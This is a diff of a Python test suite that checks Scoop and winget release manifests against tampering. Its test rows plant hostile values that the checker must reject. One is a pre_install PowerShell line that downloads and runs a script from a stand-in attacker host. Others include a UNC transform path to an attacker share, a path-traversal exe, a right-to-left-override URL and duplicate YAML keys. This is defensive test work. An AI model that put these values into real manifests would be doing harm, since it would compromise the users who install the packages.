@@ -2,6 +2,7 @@
 writes for them (written here by its own code), every field, the header lines and the paths;
 only the download folder and the release notes' address are the publisher's to choose."""
 import copy
+import functools
 import hashlib
 import os
 import shutil
@@ -27,9 +28,11 @@ def sha(data):
     return hashlib.sha256(data).hexdigest()
 
 
+@functools.lru_cache(maxsize=None)
 def package_reads():
     """What the package checks leave for each architecture: the ZIP's exe and guide, the MSI
-    as libmsi reads it (the contract's, for these files) and both files' bytes."""
+    as libmsi reads it (the contract's, for these files) and both files' bytes. Made once:
+    nothing changes it."""
     reads = {}
     for arch in contract.arches():
         exe = support.pe_file(contract.arch(arch)["pe_machine"], WINDOWS)
@@ -61,9 +64,9 @@ def setting(where, key, value):
     return lambda documents: where(documents).__setitem__(key, value)
 
 
-def text(path, old, new):
-    """An edit of the written file: its first OLD replaced by NEW."""
-    return {path: lambda data: data.replace(old, new, 1)}
+def text(path, change):
+    """An edit of the written file at PATH: CHANGE(its bytes)."""
+    return {"texts": {path: change}}
 
 
 def moved(folder):
@@ -78,17 +81,14 @@ def moved(folder):
 
 
 def without(base):
-    reads = package_reads()
-    del reads[base]
-    return reads
+    return {other: read for other, read in package_reads().items() if other != base}
 
 
 @unittest.skipUnless(msi.available() and tools.have("msiextract"), "no libmsi bindings or msitools")
 class Manifests(support.Scratch):
     def verdict(self, edit=None, texts=None, reads=None, notes="", extra=None, bases=None):
-        for entry in os.listdir(self.tmp):
-            path = self.path(entry)
-            shutil.rmtree(path) if os.path.isdir(path) else os.remove(path)
+        shutil.rmtree(self.tmp)
+        os.makedirs(self.tmp)
         documents = copy.deepcopy(genuine(notes=notes))
         if edit:
             edit(documents)
@@ -108,71 +108,64 @@ class Manifests(support.Scratch):
         return support.lines(ctx.report), ctx.report
 
     rows = [
-        # (what is planted, edit of the documents, edit of the written files, more, words of a FAIL line)
-        ("the manifests release/manifests.py writes", None, None, {}, ""),
-        ("with release notes", None, None, {"notes": "https://example.org/notes/1.0.0"}, ""),
+        # (what is planted, an edit of the documents or verdict()'s arguments, words of a FAIL line)
+        ("the manifests release/manifests.py writes", None, ""),
+        ("with release notes", {"notes": "https://example.org/notes/1.0.0"}, ""),
         ("a pre_install script in Scoop's", setting(document(SCOOP), "pre_install", [
             "Invoke-Expression (New-Object Net.WebClient).DownloadString('https://attacker.invalid/payload.ps1')"]),
-         None, {}, 'it holds "pre_install", which release/manifests.py never writes'),
-        ("a dependency in Scoop's", setting(document(SCOOP), "depends", ["attacker-bucket/evil"]), None, {},
-         'it holds "depends"'),
-        ("an environment variable in Scoop's", setting(document(SCOOP), "env_set", {"PATH": "C:\\evil"}), None, {},
+         'it holds "pre_install", which release/manifests.py never writes'),
+        ("a dependency in Scoop's", setting(document(SCOOP), "depends", ["attacker-bucket/evil"]), 'it holds "depends"'),
+        ("an environment variable in Scoop's", setting(document(SCOOP), "env_set", {"PATH": "C:\\evil"}),
          'it holds "env_set"'),
         ("a dependency in winget's", setting(document(INSTALLER), "Dependencies", {
-            "PackageDependencies": [{"PackageIdentifier": "Attacker.Evil"}]}), None, {}, 'it holds "Dependencies"'),
+            "PackageDependencies": [{"PackageIdentifier": "Attacker.Evil"}]}), 'it holds "Dependencies"'),
         ("a transform for msiexec", setting(installer(1), "InstallerSwitches", {
-            "Custom": "TRANSFORMS=\\\\attacker\\share\\evil.mst"}), None, {}, 'Installers[1] holds "InstallerSwitches"'),
-        ("a portable exe outside the ZIP's folder",
-         lambda documents: installer(4)(documents)["NestedInstallerFiles"][0].__setitem__(
-             "RelativeFilePath", "..\\..\\Windows\\evil.exe"), None, {},
+            "Custom": "TRANSFORMS=\\\\attacker\\share\\evil.mst"}), 'Installers[1] holds "InstallerSwitches"'),
+        ("a portable exe outside the ZIP's folder", lambda documents: installer(4)(documents)[
+            "NestedInstallerFiles"][0].__setitem__("RelativeFilePath", "..\\..\\Windows\\evil.exe"),
          'Installers[4].NestedInstallerFiles[0].RelativeFilePath is "..\\\\..\\\\Windows\\\\evil.exe"'),
-        ("another publisher in the locale", setting(document(LOCALE), "Publisher", "Attacker"), None, {},
+        ("another publisher in the locale", setting(document(LOCALE), "Publisher", "Attacker"),
          'Publisher is "Attacker", not "The DORVANE developers"'),
         ("a hash that is not the package's", lambda documents: document(SCOOP)(documents)["architecture"]["64bit"]
-         .__setitem__("hash", sha(b"other")), None, {}, "architecture.64bit.hash is"),
-        ("a URL naming another file", setting(installer(2), "InstallerUrl", URL + "evil.msi"), None, {},
+         .__setitem__("hash", sha(b"other")), "architecture.64bit.hash is"),
+        ("a URL naming another file", setting(installer(2), "InstallerUrl", URL + "evil.msi"),
          "Installers[2].InstallerUrl is"),
         ("one installer from another folder", setting(installer(5), "InstallerUrl",
                                                       "https://mirror.invalid/1.0.0/dorvane-1.0.0-arm64.zip"),
-         None, {}, "Installers[5].InstallerUrl is"),
-        ("Scoop's from another folder than winget's",
-         lambda documents: documents.__setitem__(SCOOP, genuine(url="https://mirror.invalid/1.0.0/")[SCOOP]),
-         None, {}, "architecture.64bit.url is"),
-        ("a value that is no list", setting(installer(0), "Commands", "dorvane"), None, {},
+         "Installers[5].InstallerUrl is"),
+        ("Scoop's from another folder than winget's", lambda documents: documents.__setitem__(
+            SCOOP, genuine(url="https://mirror.invalid/1.0.0/")[SCOOP]), "architecture.64bit.url is"),
+        ("a value that is no list", setting(installer(0), "Commands", "dorvane"),
          "Installers[0].Commands is not a list"),
-        ("a tag more", lambda documents: document(LOCALE)(documents)["Tags"].append("free"), None, {},
+        ("a tag more", lambda documents: document(LOCALE)(documents)["Tags"].append("free"),
          "Tags holds 9 items, not 8"),
-        ("Scoop's of another version", setting(document(SCOOP), "version", "9.9.9"), None, {},
-         'version is "9.9.9", not "1.0.0"'),
-        ("another folder", lambda documents: documents.update(genuine(url="https://mirror.example.org/d/1.0.0/")),
-         None, {}, ""),
+        ("Scoop's of another version", setting(document(SCOOP), "version", "9.9.9"), 'version is "9.9.9", not "1.0.0"'),
+        ("another folder", lambda documents: documents.update(genuine(url="https://mirror.example.org/d/1.0.0/")), ""),
         # an address that reads one way to a person and another way to a package manager
         ("a download folder with a right-to-left override", moved("https://downloads.example.org/\u202e0.0.1/"),
-         None, {}, "the release URL must be https://"),
-        ("release notes over http", setting(document(LOCALE), "ReleaseNotesUrl", "http://attacker.invalid/"), None, {},
+         "the release URL must be https://"),
+        ("release notes over http", setting(document(LOCALE), "ReleaseNotesUrl", "http://attacker.invalid/"),
          "the release notes URL must be https://"),
-        ("another schema in the header", None, text(INSTALLER, b"1.12.0.schema", b"1.9.0.schema"), {},
+        ("another schema in the header", text(INSTALLER, lambda data: data.replace(b"1.12.0.schema", b"1.9.0.schema")),
          "it does not start with the build's lines"),
         # PyYAML keeps the last of two keys, other readers the first
-        ("a key twice", None, text(LOCALE, b"Publisher:", b"Publisher: Attacker\nPublisher:"), {},
+        ("a key twice", text(LOCALE, lambda data: data.replace(b"Publisher:", b"Publisher: Attacker\nPublisher:", 1)),
          'it holds the key "Publisher" twice in one mapping'),
         # PyYAML folds a merge key's mapping in under the keys written (so it sees the genuine
         # ones); a reader without merge keys sees another key
-        ("a merge key", None, {LOCALE: lambda data: data + b"<<: {Publisher: Attacker}\n"}, {}, "a merge key"),
-        ("another file in winget/", None, None, {"extra": {"winget/notes.txt": b"x"}},
-         "not a manifest the release makes"),
-        ("an architecture's packages not passing their checks", None, None,
-         {"reads": without(contract.package(VERSION, "arm64"))}, "dorvane-1.0.0-arm64's ZIP and MSI did not pass"),
+        ("a merge key", text(LOCALE, lambda data: data + b"<<: {Publisher: Attacker}\n"), "a merge key"),
+        ("another file in winget/", {"extra": {"winget/notes.txt": b"x"}}, "not a manifest the release makes"),
+        ("an architecture's packages not passing their checks", {"reads": without(contract.package(VERSION, "arm64"))},
+         "dorvane-1.0.0-arm64's ZIP and MSI did not pass"),
         # the manifests name every architecture: one release's folder holds them all
-        ("an architecture's packages not here", None, None,
-         {"bases": {base: of for base, of in BASES.items() if of[1] != "arm64"}},
+        ("an architecture's packages not here", {"bases": {base: of for base, of in BASES.items() if of[1] != "arm64"}},
          "no dorvane-1.0.0-arm64.zip or .msi here"),
     ]
 
     def test_rows(self):
-        for what, edit, texts, more, words in self.rows:
+        for what, change, words in self.rows:
             with self.subTest(what):
-                lines, made = self.verdict(edit, texts, **more)
+                lines, made = self.verdict(**(change if isinstance(change, dict) else {"edit": change}))
                 if words:
                     self.assertTrue(any(line.startswith("FAIL") and words in line for line in lines), "\n".join(lines))
                     self.assertNotIn("manifests", made.facts)
